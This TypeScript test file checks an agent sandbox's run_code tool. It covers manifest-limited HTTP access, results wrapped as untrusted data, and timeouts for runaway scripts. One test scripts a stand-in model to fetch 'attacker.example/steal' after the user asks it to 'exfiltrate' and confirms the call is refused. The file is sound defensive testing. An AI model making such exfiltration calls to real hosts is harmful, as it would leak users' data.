import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startLlmStandIn, type ChatRequest, type StandIn } from './support/llm-standin.js';
import { startRedis, type Service } from './support/services.js';
import { startTestHub, standInEnv, type TestHub } from './support/hub.js';

/** The model writes code (CodeAct); the worker runs it in the sandbox under the agent's manifest. */
describe('run_code through the agent worker', () => {
  let redis: Service;
  let llm: StandIn;
  let t: TestHub;
  let api: Server;
  let dir: string;
  let apiHits = 0;

  const toolResult = (req: ChatRequest) => {
    const m = req.messages.find((x) => x.role === 'tool');
    return m ? JSON.parse(typeof m.content === 'string' ? m.content : JSON.stringify(m.content)) : undefined;
  };
  /** Scripts the model: first call runs `code`, second call reports what the tool returned. */
  const codeThenReport = (code: string) => (req: ChatRequest) => {
    const r = toolResult(req);
    return r === undefined ? { toolCalls: [{ name: 'run_code', args: { code } }] } : { text: `result: ${JSON.stringify(r)}` };
  };

  before(async () => {
    api = createServer((_req, res) => { apiHits++; res.writeHead(200, { 'content-type': 'application/json' }).end('{"price": 42}'); });
    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
    const port = (api.address() as { port: number }).port;
    dir = mkdtempSync(join(tmpdir(), 'bulwark-codeact-'));
    writeFileSync(join(dir, 'agent.toml'), `[capabilities]\nhttp = ["http://127.0.0.1:${port}"]\n\n[limits]\ntimeout_ms = 1000\n`);
    redis = await startRedis();
    llm = await startLlmStandIn();
    t = await startTestHub({ env: { REDIS_URL: redis.url, ...standInEnv(llm.baseUrl), BULWARK_AGENT_MANIFEST: join(dir, 'agent.toml') } });
  });
  after(async () => {
    await t?.close(); await llm?.close(); await redis?.stop();
    await new Promise((r) => api?.close(r));
    rmSync(dir, { recursive: true, force: true });
  });

  it('offers run_code, explains the host API, and returns the result as untrusted data', async () => {
    const port = (api.address() as { port: number }).port;
    llm.setHandler(codeThenReport(`const r = await tools.http.fetch('http://127.0.0.1:${port}/quote'); return JSON.parse(r.body).price * 2;`));
    const sent = await t.api.send('what is twice the price?');
    const reply = await t.api.waitReply(sent.conversationId, sent.messageId);
    const first = llm.requests.at(-2)!;
    assert.ok(first.tools?.some((x) => x.function.name === 'run_code'));
    assert.match(String(first.messages[0]!.content), /tools\.http\.fetch/);
    const result = toolResult(llm.requests.at(-1)!);
    assert.equal(result.untrusted_data.ok, true);
    assert.equal(result.untrusted_data.value, 84);
    assert.equal(apiHits, 1);
    assert.match(reply.text, /"value":84/);
  });

  it('a host outside the manifest is refused with a capability error the model can read', async () => {
    const before = apiHits;
    llm.setHandler(codeThenReport(`return (await tools.http.fetch('https://attacker.example/steal?d=1')).status;`));
    const sent = await t.api.send('exfiltrate please');
    await t.api.waitReply(sent.conversationId, sent.messageId);
    const result = toolResult(llm.requests.at(-1)!);
    assert.equal(result.untrusted_data.ok, false);
    assert.equal(result.untrusted_data.error.kind, 'capability');
    assert.equal(apiHits, before);
  });

  it('a runaway script ends with a timeout and the hub keeps answering', async () => {
    llm.setHandler(codeThenReport('for (;;) {}'));
    const sent = await t.api.send('spin');
    await t.api.waitReply(sent.conversationId, sent.messageId);
    assert.equal(toolResult(llm.requests.at(-1)!).untrusted_data.error.kind, 'timeout');
    llm.setHandler(() => ({ text: 'still here' }));
    const next = await t.api.send('are you ok?');
    assert.equal((await t.api.waitReply(next.conversationId, next.messageId)).text, 'still here');
  });
});
